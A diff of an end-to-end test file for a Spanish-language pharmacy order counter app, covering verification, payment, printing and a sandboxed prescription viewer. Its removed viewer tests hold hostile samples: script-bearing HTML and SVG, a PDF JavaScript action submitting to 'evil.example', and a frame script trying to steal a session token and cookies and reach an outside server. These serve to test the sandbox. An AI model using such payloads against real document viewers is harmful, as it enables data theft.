@@ -1,9 +1,6 @@
-import { once } from 'node:events';
-import { createServer } from 'node:http';
-import type { AddressInfo } from 'node:net';
-import type { Frame, Page } from 'playwright-core';
+import type { Page } from 'playwright-core';
 import { afterAll, afterEach, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
-import { type CounterPage, DESK, PHONE, press, type Screen } from '../../support/counter/counter-page.ts';
+import { type CounterPage, DESK, drawnFrame, PHONE, press, type Screen } from '../../support/counter/counter-page.ts';
 import {
   COLLEAGUE,
   type CounterWorld,
@@ -13,9 +10,7 @@ import {
   openTestCounter,
 } from '../../support/counter/counter-world.ts';
 import { folioOf, forceOrder, placeOrder, storedOrder } from '../../support/counter/placed-orders.ts';
-import { drawnPdf, drawnPng, endlessPdf, scannedPdf } from '../../support/counter/prescription-files.ts';
-import { sendHttp } from '../../support/http/http.ts';
-import { ISSUED, taxDocument } from '../../support/invoices/tax-documents.ts';
+import { drawnPdf } from '../../support/counter/prescription-files.ts';
 import { openTestServer, type TestServer } from '../../support/servers/test-server.ts';
 
 const BLUE = '0 0 1 rg 0 0 612 792 re f';
@@ -55,7 +50,7 @@ afterEach(async () => {
 async function openOrder(id: number, shown = desk): Promise<CounterPage> {
   await shown.page.evaluate(`location.hash = '#/orders/${id}'`);
   await shown.page.getByRole('heading', { name: folioOf(id) }).waitFor();
-  await shown.page.getByRole('group', { name: /Acciones|Actions/ }).waitFor();
+  await shown.page.getByRole('group', { name: 'Acciones' }).waitFor();
   return shown;
 }
 
@@ -69,13 +64,6 @@ async function openOwnPage(screen: Screen = DESK): Promise<CounterPage> {
   return shown;
 }
 
-/** Adds a prescription to an order, as its client does. */
-async function addPrescription(id: number, file: Buffer): Promise<void> {
-  const token = await server.login('aseguradora@demo.example');
-  const body = { prescriptions: [{ document: file.toString('base64'), issue_date: '2026-11-20' }] };
-  expect((await server.request('POST', `/api/orders/${id}/prescriptions/`, { token, body })).status).toBe(201);
-}
-
 const dialog = (page: Page, name: string) => page.getByRole('dialog', { name });
 const told = (page: Page, text: string) => page.locator('.notice').getByText(text).waitFor();
 
@@ -87,8 +75,15 @@ const newPdf = (...pages: readonly string[]): Buffer =>
 describe('an order at the counter', { timeout: 60_000 }, () => {
   it('is verified, approved, paid and sent by keys alone', async () => {
     const id = await placeOrder(server, [newPdf()]);
+    const { patient } = await storedOrder(id);
+    const known = { sex: 'F', birthdate: '1991-11-20', medicalCondition: 'Penicilina' } as const;
+    await forceOrder(id, { patient: { ...patient, ...known } });
     const { page } = await openOrder(id);
+    await page.getByText('35 años, sexo femenino').waitFor();
+    await page.getByText('Alergias y padecimientos: Penicilina').waitFor();
     await press(page, 'v');
+    await dialog(page, 'Verificar receta').getByText('Ana Paz').waitFor();
+    await dialog(page, 'Verificar receta').getByText('Penicilina').waitFor();
     await dialog(page, 'Verificar receta').getByText('Se verifica para: 1 × Ibuprofeno 800 mg').waitFor();
     await press(page, 'Tab', '12345678', 'Enter');
     await dialog(page, 'Verificar receta').getByText('Este campo es obligatorio.').waitFor();
@@ -99,7 +94,9 @@ describe('an order at the counter', { timeout: 60_000 }, () => {
     await told(page, 'verificada.');
     await press(page, 'a', 'Enter');
     await told(page, 'La orden ahora está: Aprobada.');
-    await press(page, 'p', 'Tab', '28', 'Enter');
+    await press(page, 'a');
+    await dialog(page, 'Surtir').getByText('No está pagada: Sin pagar. Faltan $137.00 por cobrar.').waitFor();
+    await press(page, 'Escape', 'p', 'Tab', '28', 'Enter');
     await told(page, 'Estado del pago: Pagada.');
     for (const status of ['En surtido', 'Lista', 'Enviada', 'Entregada']) {
       await press(page, 'a', 'Enter');
@@ -127,6 +124,10 @@ describe('an order at the counter', { timeout: 60_000 }, () => {
       'shipped',
       'delivered',
     ]);
+    // The prescriber is known, and nothing is left to be done.
+    expect(await page.getByRole('group', { name: 'Acciones' }).getByRole('button').allTextContents()).toEqual([
+      'Reembolsar',
+    ]);
   });
 
   it('offers what the rules allow, and no more', async () => {
@@ -137,6 +138,7 @@ describe('an order at the counter', { timeout: 60_000 }, () => {
       'Rechazar receta',
       'Cambiar estado…',
       'Pago…',
+      'Agregar receta…',
     ]);
     await press(page, 'm');
     expect(await dialog(page, 'Cambiar el estado de la orden').getByRole('option').allTextContents()).toEqual([
@@ -149,13 +151,13 @@ describe('an order at the counter', { timeout: 60_000 }, () => {
 
   it('has a prescription rejected with a reason, which is asked for', async () => {
     const id = await placeOrder(server, [newPdf()]);
-    const { page, expectFit } = await openOrder(id, await openOwnPage({ ...PHONE, theme: 'dark', language: 'en' }));
+    const { page, expectFit } = await openOrder(id, await openOwnPage({ ...PHONE, theme: 'dark' }));
     await press(page, 'x', 'Enter');
-    await dialog(page, 'Reject prescription').getByText('Check the marked fields.').waitFor();
+    await dialog(page, 'Rechazar receta').getByText('Revise los campos marcados.').waitFor();
     await expectFit();
     await press(page, 'Sin firma', 'Enter');
-    await told(page, 'is rejected.');
-    await page.getByText('Rejected: Sin firma', { exact: true }).waitFor();
+    await told(page, 'rechazada.');
+    await page.getByText('Rechazada: Sin firma', { exact: true }).waitFor();
     expect((await storedOrder(id)).prescriptions[0]?.rejection).toMatchObject({ by: OPERATOR, reason: 'Sin firma' });
   });
 
@@ -167,41 +169,46 @@ describe('an order at the counter', { timeout: 60_000 }, () => {
     await told(page, `Receta ${first} verificada.`);
     await page.getByRole('button', { name: 'Rechazar receta' }).focus();
     const named = (name: string) => page.getByRole('button', { name, exact: true });
-    for (const name of [`Verificada: Receta ${first}`, `Receta ${second}`]) await named(name).waitFor();
+    for (const name of [`Verificada: Receta ${first} · receta-1.pdf`, `Receta ${second} · receta-2.pdf`])
+      await named(name).waitFor();
     await press(page, 'Enter', 'Sin firma', 'Enter');
     await told(page, `Receta ${second} rechazada.`);
-    await named(`Rechazada: Receta ${second}`).waitFor();
+    await named(`Rechazada: Receta ${second} · receta-2.pdf`).waitFor();
     await expect.poll(() => page.evaluate('document.activeElement.tagName')).toBe('H1');
   });
 
-  it('has the prescription judged next that has come for a rejected one, by its number', async () => {
+  it('gets a prescription that is attached at the counter, which is judged next', async () => {
     const id = await placeOrder(server, [newPdf()]);
-    const { page } = await openOrder(id);
+    const { page, expectFit } = await openOrder(id);
     await press(page, 'x', 'Sin firma', 'Enter');
     await told(page, 'rechazada.');
-    await addPrescription(id, newPdf());
-    const [first, second] = (await storedOrder(id)).prescriptions.map((each) => each.id);
-    await page.evaluate(`document.dispatchEvent(new Event('visibilitychange'))`);
-    await page.getByRole('button', { name: 'Mostrar la orden como está ahora' }).waitFor();
-    await press(page, 'u');
-    await page.getByRole('heading', { name: `Receta ${second}` }).waitFor();
-    await press(page, 'v');
-    await dialog(page, `Verificar receta ${second}`).waitFor();
-    await press(page, 'Enter');
+    await press(page, 't');
+    const form = dialog(page, 'Agregar receta');
+    await form.getByRole('button', { name: 'Agregar receta' }).press('Enter');
+    await form.getByText('Elija el archivo de la receta.').waitFor();
+    await form
+      .getByLabel('Archivo')
+      .setInputFiles({ name: 'nueva.pdf', mimeType: 'application/pdf', buffer: newPdf() });
+    await form.getByRole('button', { name: 'Agregar receta' }).click();
+    await form.getByText('Este campo es obligatorio.').waitFor();
+    await expectFit();
+    await form.getByLabel('Expedida el').fill('2026-11-20');
+    await form.getByLabel('Expedida el').press('Enter');
+    await told(page, 'La receta se agregó: falta verificarla.');
+    const [, second] = (await storedOrder(id)).prescriptions.map((each) => each.id);
+    await page.getByRole('heading', { name: `Receta ${second} · nueva.pdf` }).waitFor();
+    await press(page, 'v', 'Enter');
     await told(page, `Receta ${second} verificada.`);
-    const judged = (await storedOrder(id)).prescriptions.map(({ verification }) => verification !== null);
-    expect(judged).toEqual([false, true]);
-    // One that is looked at again stays in view, whatever else is done.
-    await press(page, 's', 'p', 'Tab', '28', 'Enter');
-    await told(page, 'Estado del pago: Pagada.');
-    await page.getByRole('heading', { name: `Receta ${first}` }).waitFor();
+    const { prescriptions, history } = await storedOrder(id);
+    expect(prescriptions.map(({ verification }) => verification !== null)).toEqual([false, true]);
+    expect(history.find(({ what }) => what === 'prescription_attached')?.by).toEqual({ operator: OPERATOR });
   });
 
   it('keeps the prescription in view that is being judged', async () => {
     const id = await placeOrder(server, [newPdf(), newPdf()]);
     const [first, second] = (await storedOrder(id)).prescriptions.map((each) => each.id);
     const { page } = await openOrder(id);
-    const shown = page.getByRole('heading', { name: `Receta ${first}`, exact: true });
+    const shown = page.getByRole('heading', { name: `Receta ${first} ·` });
     await press(page, 'v');
     await page.getByRole('button', { name: 'Acercar' }).focus();
     await press(page, 's', 'x', 'a', 'm', '2');
@@ -211,20 +218,6 @@ describe('an order at the counter', { timeout: 60_000 }, () => {
     expect([await shown.count(), await page.getByRole('dialog').count()]).toEqual([1, 1]);
     await press(page, 'Escape', 's');
     await page.getByRole('heading', { name: `Receta ${second}` }).waitFor();
-  });
-
-  it('has people by their names, phones and amounts as Mexico writes them, and the comments of the client alone', async () => {
-    const id = await placeOrder(server, [newPdf()]);
-    await forceOrder(id, { paymentStatus: 'paid', paymentForm: '03', comments: 'Tocar dos veces' });
-    const { page } = await openOrder(id);
-    await press(page, 'x', 'Sin firma', 'Enter');
-    await told(page, 'rechazada.');
-    await press(page, 'd', 'ControlOrMeta+a', '7.5', 'Enter');
-    await told(page, 'Reembolso de $7.50 registrado.');
-    await page.getByRole('row', { name: /Reembolso: \$0\.00 → \$7\.50 Eva Farmacéutica$/ }).waitFor();
-    await page.getByRole('row', { name: /Creada Tomás Vega Luna$/ }).waitFor();
-    await page.getByText('06700 Ciudad de México, CDMX, 55 5555 0199, Timbre azul').waitFor();
-    await page.getByText('Tocar dos veces', { exact: true }).waitFor();
   });
 
   it('has an old prescription verified only by who accepts its age', async () => {
@@ -237,80 +230,6 @@ describe('an order at the counter', { timeout: 60_000 }, () => {
     await press(page, 'Tab', 'Tab', 'Tab', ' ', 'Enter');
     await told(page, 'verificada.');
     expect((await storedOrder(id)).prescriptions[0]?.verification).toMatchObject({ isAgeAccepted: true });
-  });
-
-  it('says what is needed to prepare and ship it, also on paper', async () => {
-    const id = await placeOrder(server, [], 'luz@example.mx', { coupon: 'BIENVENIDA10' });
-    const { shippingMethod } = await storedOrder(id);
-    await forceOrder(id, { shippingMethod: { ...shippingMethod, method: 'express' } });
-    const { page } = await openOrder(id);
-    await page.emulateMedia({ media: 'print' });
-    onTestFinished(() => page.emulateMedia({ media: null }));
-    const facts = await page.locator('.facts:visible').allInnerTexts();
-    expect(facts.join('\n').split('\n')).toEqual(
-      expect.arrayContaining([
-        ...['Cliente', 'demo (1)'],
-        ...['Envío por', 'Paquetería Andariega, exprés'],
-        ...['A más tardar', '30 nov 2026'],
-        ...['Cupón', 'BIENVENIDA10, 10 % de descuento en la compra'],
-      ]),
-    );
-    await page.getByRole('row', { name: /^Paracetamol 500 mg.* Código de barras 7509999000013 1 / }).waitFor();
-  });
-
-  it('is printed as a plain sheet, without what leads elsewhere or acts', async () => {
-    const { page } = await openOrder(await placeOrder(server));
-    await page.getByRole('combobox', { name: 'Colores' }).selectOption('Oscuros');
-    await page.emulateMedia({ media: 'print' });
-    expect(await page.locator('h1').isVisible()).toBe(true);
-    expect(await page.locator('header, button, .viewer').filter({ visible: true }).count()).toBe(0);
-    const colours =
-      '({ ground: getComputedStyle(document.documentElement).backgroundColor, ' +
-      "text: getComputedStyle(document.querySelector('.facts dd')).color, " +
-      "card: getComputedStyle(document.querySelector('.card')).backgroundColor })";
-    expect(await page.evaluate(colours)).toEqual({
-      ground: 'rgb(255, 255, 255)',
-      text: 'rgb(0, 0, 0)',
-      card: 'rgb(255, 255, 255)',
-    });
-    await page.emulateMedia({ media: null });
-    await page.getByRole('combobox', { name: 'Colores' }).selectOption('Del sistema');
-  });
-
-  it('has its money refunded up to what was paid', async () => {
-    const id = await placeOrder(server);
-    await forceOrder(id, { paymentStatus: 'paid', paymentForm: '03' });
-    const { page, expectFit } = await openOrder(id);
-    await press(page, 'd');
-    await dialog(page, 'Reembolsar').getByText('A lo más $107.50').waitFor();
-    await press(page, 'ControlOrMeta+a', '107.51', 'Enter');
-    await dialog(page, 'Reembolsar').getByText(`De la orden ${id} quedan 107.50 pesos por devolver.`).waitFor();
-    await expectFit();
-    expect(await page.locator('[aria-invalid]').inputValue()).toBe('107.51');
-    await press(page, 'ControlOrMeta+a', '7.50', 'Enter');
-    await told(page, 'Reembolso de $7.50 registrado.');
-    expect((await storedOrder(id)).refunds).toMatchObject([{ cents: 750, form: '03' }]);
-  });
-
-  it('gets a credit note of its invoice', async () => {
-    const id = await placeOrder(server);
-    const { stamp, id: providerId } = ISSUED;
-    const invoice = taxDocument({ status: 'issued', stamp, providerId, amountCents: 10_750 });
-    await forceOrder(id, { invoice, cfdi: providerId });
-    const { page } = await openOrder(id);
-    await press(page, 'f');
-    expect(await dialog(page, 'Qué hacer con la factura').getByRole('button').allTextContents()).toEqual([
-      '×',
-      'Sustituir la factura',
-      'Enviar de nuevo el correo',
-      'Nota de crédito',
-    ]);
-    await press(page, 'Tab', 'Tab', 'Enter');
-    await dialog(page, 'Nota de crédito').getByText('A lo más $107.50').waitFor();
-    await press(page, 'ControlOrMeta+a', '50.00', 'Enter');
-    await told(page, 'Nota de crédito: hecho.');
-    expect((await storedOrder(id)).documents).toMatchObject([{ kind: 'credit', amountCents: 5_000 }]);
-    await page.getByRole('row', { name: /Nota de crédito por intentarse de nuevo \$50.00/ }).waitFor();
   });
 
   it('names the orders that have the same document', async () => {
@@ -347,32 +266,25 @@ describe('an order at the counter', { timeout: 60_000 }, () => {
     expect((await storedOrder(id)).orderStatus).toBe('cancelled');
   });
 
-  it('keeps what a colleague has corrected of the prescriber while another verifies anew', async () => {
+  it('of an erased patient tells which documents are kept, and until when', async () => {
     const id = await placeOrder(server, [newPdf()]);
-    const [{ page: eva }, { page: luis }] = await openTogether(id);
-    await press(luis, 'v', 'Dr. Juan Ríos', 'Tab', '11111111', 'Enter');
-    await told(luis, 'verificada.');
-    await eva.reload();
-    await openOrder(id);
-    await press(eva, 'v');
-    await dialog(eva, 'Verificar receta').waitFor();
-    await press(luis, 'v', 'ControlOrMeta+a', 'Dra. Ana Ruiz', 'Tab', '22222222', 'Enter');
-    await luis.getByText('Dra. Ana Ruiz, cédula 22222222').first().waitFor();
-    await eva.evaluate(`document.dispatchEvent(new Event('visibilitychange'))`);
-    await eva.getByRole('button', { name: 'Mostrar la orden como está ahora' }).click();
-    const form = dialog(eva, 'Verificar receta');
-    await form.getByLabel('Domicilio de quien prescribe').fill('Calle 9, Puebla');
-    await press(eva, 'Enter');
-    await told(eva, 'verificada.');
-    const corrected = { name: 'Dra. Ana Ruiz', licence: '22222222', address: 'Calle 9, Puebla' };
-    expect((await storedOrder(id)).prescriptions[0]?.prescriber).toEqual(corrected);
-    // Emptied fields do not take the recorded prescriber away.
-    await press(eva, 'v');
-    for (const field of ['Nombre de quien prescribe', 'Cédula profesional', 'Domicilio de quien prescribe'])
-      await form.getByLabel(field).fill('');
-    await press(eva, 'Enter');
-    await form.getByText('Quien prescribe ya está anotado: escriba a quién anotar en su lugar.').first().waitFor();
-    expect((await storedOrder(id)).prescriptions[0]?.prescriber).toEqual(corrected);
+    const documents = (await storedOrder(id)).prescriptions;
+    const retained = { documents, documentsUntil: '2027-11-23', receiverUntil: null };
+    await forceOrder(id, { prescriptions: [], retained });
+    const { page } = await openOrder(id);
+    await page.getByText(`Receta ${documents[0]?.id}, hasta el 23 nov 2027`).waitFor();
+  });
+
+  it('is printed as a plain sheet with what is needed to prepare it, and nothing to press', async () => {
+    const { page } = await openOrder(await placeOrder(server), await openOwnPage({ ...DESK, theme: 'dark' }));
+    await page.emulateMedia({ media: 'print' });
+    expect(await page.locator('header, button, .viewer').filter({ visible: true }).count()).toBe(0);
+    await page.getByText('06700 Ciudad de México, CDMX, 55 5555 0199, Timbre azul').waitFor();
+    await page.getByRole('row', { name: /^Paracetamol 500 mg.* Código de barras 7509999000013 1 / }).waitFor();
+    const colours =
+      '({ ground: getComputedStyle(document.documentElement).backgroundColor, ' +
+      "text: getComputedStyle(document.querySelector('.facts dd')).color })";
+    expect(await page.evaluate(colours)).toEqual({ ground: 'rgb(255, 255, 255)', text: 'rgb(0, 0, 0)' });
   });
 
   it('is changed by two people, of whom the second sees it and loses nothing that they typed', async () => {
@@ -423,28 +335,6 @@ describe('an order at the counter', { timeout: 60_000 }, () => {
       ['approved', { operator: COLLEAGUE }],
       ['in_process', { operator: OPERATOR }],
     ]);
-  });
-
-  it('keeps the status that was chosen until another one is, when somebody else has moved the order', async () => {
-    const id = await placeOrder(server);
-    await forceOrder(id, { orderStatus: 'approved' });
-    const [{ page: eva, expectFit }, { page: luis }] = await openTogether(id);
-    await press(eva, 'm');
-    await press(luis, 'a', 'Enter');
-    await told(luis, 'La orden ahora está: En surtido.');
-    await press(eva, 'Enter');
-    const form = dialog(eva, 'Cambiar el estado de la orden');
-    const status = form.getByLabel('Nuevo estado');
-    await form.getByText('ya no lo permite').waitFor();
-    expect(await status.locator('option:checked').textContent()).toBe('Cotizada');
-    await expectFit();
-    await press(eva, 'Enter');
-    await status.selectOption('Con faltantes');
-    await form.getByText('ya no lo permite').waitFor({ state: 'detached' });
-    await press(eva, 'Enter');
-    await told(eva, 'La orden ahora está: Con faltantes.');
-    const moves = (await storedOrder(id)).history.flatMap(({ what, to }) => (what === 'moved' ? [to] : []));
-    expect(moves).toEqual(['in_process', 'shortage']);
   });
 
   it('is not unpaid by who wrote that it is paid, when somebody else has rejected the payment', async () => {
@@ -540,6 +430,8 @@ describe('an order at the counter', { timeout: 60_000 }, () => {
     const scrolled = Number(await frame.evaluate('scrollY'));
     const scroll = () => press(page, 'ArrowUp').then(() => frame.evaluate('scrollY'));
     await expect.poll(scroll).toBeLessThan(scrolled);
+    // The frame keeps what is pressed in it to itself, and Tab leads out of it.
+    await press(page, 'Escape', 'Shift+Tab');
     expect(await page.getByLabel('Nombre de quien prescribe').inputValue()).toBe('Dra. Eva Luna');
     await press(page, 'Escape');
     await page.getByRole('dialog').waitFor({ state: 'detached' });
@@ -547,282 +439,18 @@ describe('an order at the counter', { timeout: 60_000 }, () => {
   });
 
   it.each([
-    ['on a desk, light, in Spanish', DESK],
-    ['on a phone, dark, in English', { ...PHONE, theme: 'dark', language: 'en' }],
+    ['on a desk, light', DESK],
+    ['on a phone, dark', { ...PHONE, theme: 'dark' }],
   ] as const)('is accessible and fits the screen, with its dialogs: %s', async (_, screen) => {
     const { page, expectFit } = await openOrder(
       await placeOrder(server, [newPdf(), newPdf()]),
       await openOwnPage(screen),
     );
+    const patient = await page.locator('.patient').boundingBox();
+    expect((patient?.y ?? screen.height) + (patient?.height ?? 0)).toBeLessThan(screen.height / 2);
     await expectFit();
     await press(page, 'v');
     await page.getByRole('dialog').waitFor();
     await expectFit();
-  });
-});
-
-/** Gives the page this in place of every document, until the case is over. */
-async function replaceDocuments(body: Buffer): Promise<void> {
-  await desk.page.route('**/documents/**', (route) => route.fulfill({ body, contentType: 'text/html' }));
-  onTestFinished(() => desk.page.unrouteAll());
-}
-
-/** Returns the frame of the viewer once it has drawn this. */
-async function drawnFrame(page: Page, label: string): Promise<Frame> {
-  await page.frameLocator('iframe').getByRole('img', { name: label }).waitFor();
-  const frame = page.frames().find((each) => each.url().endsWith('/viewer.html'));
-  if (!frame) throw new Error('no frame');
-  return frame;
-}
-
-/** Clicks into the frame until it gets the keys, which a browser gives it a moment later, and only in the page in front. */
-async function enterFrame(page: Page, frame: Frame): Promise<void> {
-  await frame.evaluate(`isHeard = false; addEventListener('keydown', () => { isHeard = true; }, { once: true })`);
-  await page.bringToFront();
-  const click = async () => {
-    await page.locator('iframe').click();
-    await page.keyboard.press('Shift');
-    return frame.evaluate('isHeard');
-  };
-  await expect.poll(click).toBe(true);
-}
-
-/** Returns red, green and blue in the middle of what is drawn, and whether it is wide or high. */
-const middleOf = (frame: Frame): Promise<readonly [string, string]> =>
-  frame.evaluate(`(() => {
-    const canvas = document.querySelector('canvas');
-    const { width, height } = canvas;
-    const copy = new OffscreenCanvas(1, 1).getContext('2d');
-    copy.drawImage(canvas, -width / 2, -height / 2);
-    const { data } = copy.getImageData(0, 0, 1, 1);
-    return [data.slice(0, 3).join(' '), width > height ? 'wide' : 'high'];
-  })()`);
-
-describe('a prescription at the counter', { timeout: 60_000 }, () => {
-  it('is drawn page by page if it is a PDF, by keys', async () => {
-    const id = await placeOrder(server, [newPdf(BLUE, RED)]);
-    const { page } = await openOrder(id);
-    const name = `Receta ${(await storedOrder(id)).prescriptions[0]?.id}`;
-    const frame = await drawnFrame(page, `${name}, página 1 de 2`);
-    expect(await middleOf(frame)).toEqual(['0 0 255', 'high']);
-    await press(page, 'ArrowRight');
-    await drawnFrame(page, `${name}, página 2 de 2`);
-    await expect.poll(() => middleOf(frame)).toEqual(['255 0 0', 'high']);
-    await press(page, 'r');
-    await expect.poll(() => middleOf(frame)).toEqual(['255 0 0', 'wide']);
-    const width = () => frame.evaluate(`document.querySelector('canvas').style.width`);
-    await page.keyboard.press('+');
-    await expect.poll(width).toBe('150%');
-  });
-
-  it('is looked at and judged by the same keys while its frame has the focus, which Escape leaves', async () => {
-    const id = await placeOrder(server, [newPdf(BLUE, RED)]);
-    const { page } = await openOrder(id);
-    const frame = await drawnFrame(page, 'página 1 de 2');
-    await enterFrame(page, frame);
-    await press(page, 'ArrowRight');
-    await drawnFrame(page, 'página 2 de 2');
-    await press(page, '+');
-    await expect.poll(() => frame.evaluate(`document.querySelector('canvas').style.width`)).toBe('150%');
-    // The arrow keys scroll a page that is wider than the frame, before they turn to the next page. The browser scrolls as far
-    // as what it has painted.
-    await frame.evaluate('new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))');
-    await press(page, 'ArrowRight');
-    await expect.poll(() => frame.evaluate('scrollX')).toBeGreaterThan(0);
-    await press(page, 'v');
-    await dialog(page, 'Verificar receta').waitFor();
-    await enterFrame(page, frame);
-    await press(page, 'Escape');
-    await page.getByRole('dialog').waitFor({ state: 'detached' });
-    await enterFrame(page, frame);
-    await press(page, 'm', 'Escape');
-    await expect.poll(() => page.evaluate('document.activeElement.tagName')).toBe('BODY');
-    await press(page, 'm');
-    await dialog(page, 'Cambiar el estado de la orden').waitFor();
-  });
-
-  it('has the page do nothing but what its reader has pressed in it, whatever its frame says', async () => {
-    const { page } = await openOrder(await placeOrder(server, [newPdf()]));
-    const frame = await drawnFrame(page, 'página 1 de 1');
-    const say = (...messages: readonly unknown[]) =>
-      frame.evaluate(`${JSON.stringify(messages)}.forEach((message) => parent.postMessage(message, '*'))`);
-    const key = (named: unknown) => ({ kind: 'key', key: named });
-    // Without the focus, nobody has pressed a key in it.
-    await say(key('v'), key('x'));
-    await page.evaluate(`postMessage(${JSON.stringify(key('v'))}, '*')`);
-    await enterFrame(page, frame);
-    await say(null, 'v', 7, [], { kind: 'run', key: 'v' }, key(['v']), key('V'), key('toString'), key(null));
-    await say(...['a', 'm', 'p', 'd', 'f', 'u', '1', '2', '/', 'Enter', 'Tab', ' '].map(key));
-    await say({ kind: 'opened', pages: '9' }, { kind: 'opened', pages: -1 }, { kind: 'opened' });
-    // The messages come in their order.
-    await say(key('?'));
-    await dialog(page, 'Atajos de teclado').waitFor();
-    expect(await page.getByRole('dialog').count()).toBe(1);
-    await page.getByText('Página 1 de 1').waitFor();
-    expect(new URL(page.url()).hash).toMatch(/^#\/orders/);
-  });
-
-  it('is drawn if it is a picture', async () => {
-    const { page } = await openOrder(await placeOrder(server, [drawnPng(300, 200, [200, 30, 30])]));
-    const frame = await drawnFrame(page, 'página 1 de 1');
-    expect(await middleOf(frame)).toEqual(['200 30 30', 'wide']);
-    await press(page, 'r');
-    await expect.poll(() => middleOf(frame)).toEqual(['200 30 30', 'high']);
-  });
-
-  it.each([
-    ['a page of HTML', '<script>parent.document.title = "in"</script>'],
-    [
-      'an SVG with a script',
-      '<svg xmlns="http://www.w3.org/2000/svg"><script>parent.postMessage("in", "*")</script></svg>',
-    ],
-    ['a PDF that is cut off', '%PDF-1.4\n1 0 obj<</Type/Cat'],
-    ['a PDF without pages', '%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'],
-    ['a PNG of nothing', '\x89PNG\r\n\x1a\n'],
-  ])('says so if it cannot be drawn: %s', async (_, document) => {
-    const id = await placeOrder(server, [newPdf()]);
-    await replaceDocuments(Buffer.from(document, 'latin1'));
-    const { page } = await openOrder(id);
-    await page.getByRole('alert').getByText('El documento no se puede mostrar').waitFor();
-    expect(await page.title()).toBe(`Orden ${folioOf(id)} · Botica`);
-  });
-
-  it('is asked for again by a button, after it could not be read', async () => {
-    const { page } = desk;
-    const json = { code: 'unreachable', es: 'S3 no responde.', en: 'S3 does not answer.' };
-    await page.route('**/documents/**', (route) => route.fulfill({ status: 502, json }), { times: 1 });
-    await openOrder(await placeOrder(server, [newPdf()]));
-    await page.getByRole('alert').getByText('S3 no responde.').waitFor();
-    await page.getByRole('button', { name: 'Intentar de nuevo' }).click();
-    expect(await middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['0 0 255', 'high']);
-    expect(await page.getByRole('alert').count()).toBe(0);
-  });
-
-  it('is told with its last day while it is kept of an erased patient', async () => {
-    const id = await placeOrder(server, [newPdf()]);
-    const documents = (await storedOrder(id)).prescriptions;
-    await forceOrder(id, {
-      prescriptions: [],
-      retained: { documents, documentsUntil: '2027-11-23', receiverUntil: null },
-    });
-    const { page } = await openOrder(id);
-    await page.getByText(`Receta ${documents[0]?.id}, hasta el 23 nov 2027`).waitFor();
-    expect(await page.getByText('La orden no tiene recetas.').count()).toBe(0);
-    await openOrder(await placeOrder(server));
-    await page.getByText('La orden no tiene recetas.').waitFor();
-  });
-
-  it('is never blank because its scan could not be decoded', async () => {
-    const { page } = await openOrder(await placeOrder(server, [scannedPdf('CCITTFaxDecode')]));
-    expect(await middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['0 0 0', 'high']);
-    await press(page, '+', 'r');
-    await expect.poll(async () => middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['0 0 0', 'wide']);
-    const undecodable = await openOrder(await placeOrder(server, [scannedPdf('JPXDecode')]));
-    await undecodable.page.getByText('El documento no se puede mostrar').waitFor();
-  });
-
-  it('shows its other pages if one of them cannot be drawn', async () => {
-    const { page } = await openOrder(await placeOrder(server, [scannedPdf('CCITTFaxDecode', 'JPXDecode')]));
-    const frame = await drawnFrame(page, 'página 1 de 2');
-    await press(page, 'ArrowRight');
-    await page.getByText('Esta página no se puede mostrar').waitFor();
-    expect(await frame.locator('canvas').count()).toBe(0);
-    await press(page, 'ArrowLeft');
-    expect(await middleOf(await drawnFrame(page, 'página 1 de 2'))).toEqual(['0 0 0', 'high']);
-    await page.getByText('Esta página no se puede mostrar').waitFor({ state: 'detached' });
-  });
-
-  it('is given up if it takes too long, while the page goes on', async () => {
-    const { page } = await openOrder(await placeOrder(server, [endlessPdf()]), await openOwnPage());
-    await page.getByText('Página 1 de 1').waitFor();
-    // From here on seconds pass ten times as fast in the page, which counts them anew for each drawing.
-    await page.evaluate('{ const real = setTimeout; window.setTimeout = (run, ms) => real(run, ms / 10); }');
-    await press(page, 'r', 'x');
-    await dialog(page, 'Rechazar receta').waitFor();
-    await page.getByText('El documento no se puede mostrar').waitFor();
-    expect(page.frames()).toHaveLength(1);
-  });
-
-  it('runs nothing of a PDF', async () => {
-    const script = '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\))>>';
-    const id = await placeOrder(server, [newPdf()]);
-    await replaceDocuments(drawnPdf([RED], script));
-    const { page } = await openOrder(id);
-    expect(await middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['255 0 0', 'high']);
-  });
-
-  it('could reach neither the page nor anybody else, whatever it ran', async () => {
-    // The browser says twice of some attempts that it blocked them, the second time when it likes.
-    const own = await world.open({ screen: DESK });
-    onTestFinished(() => own.close());
-    const shown = await openOrder(await placeOrder(server, [newPdf()]), own);
-    const frame = await drawnFrame(shown.page, 'página 1 de 1');
-    let reached = 0;
-    const stranger = createServer((_, response) => response.end(String(++reached))).listen(0, '127.0.0.1');
-    await once(stranger, 'listening');
-    const elsewhere = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}/`;
-    const tryAll = `(async () => {
-      const attempt = async (act) => { try { await act(); return 'done'; } catch (error) { return error.name; } };
-      return {
-        origin: self.origin,
-        page: await attempt(() => parent.document.title),
-        token: await attempt(() => sessionStorage.getItem('token')),
-        cookie: await attempt(() => document.cookie),
-        own: await attempt(() => fetch('/session')),
-        other: await attempt(() => fetch('${elsewhere}')),
-        worker: await attempt(() => new Promise((done, fail) => { new Worker('/viewer.js').onerror = () => fail(new Error()); })),
-        top: await attempt(() => { top.location = '${elsewhere}'; }),
-        picture: await attempt(() => new Promise((done, fail) => {
-          const picture = new Image(); picture.onload = done; picture.onerror = () => fail(new Error()); picture.src = '${elsewhere}';
-        })),
-      };
-    })()`;
-    expect(await frame.evaluate(tryAll)).toEqual({
-      origin: 'null',
-      page: 'SecurityError',
-      token: 'SecurityError',
-      cookie: 'SecurityError',
-      own: 'TypeError',
-      other: 'TypeError',
-      worker: 'TypeError',
-      top: 'SecurityError',
-      picture: 'Error',
-    });
-    await frame.evaluate(`void (location.href = '${elsewhere}?secret')`);
-    const said: string[] = [];
-    for (const reason of [
-      "connect-src 'none'",
-      'TrustedScriptURL',
-      'sandboxed',
-      "'img-src' was not",
-      "frame-src 'self'",
-    ]) {
-      await expect.poll(() => said.push(...shown.takeComplaints()) && said.join('\n')).toContain(reason);
-    }
-    // A request that was blocked is told too.
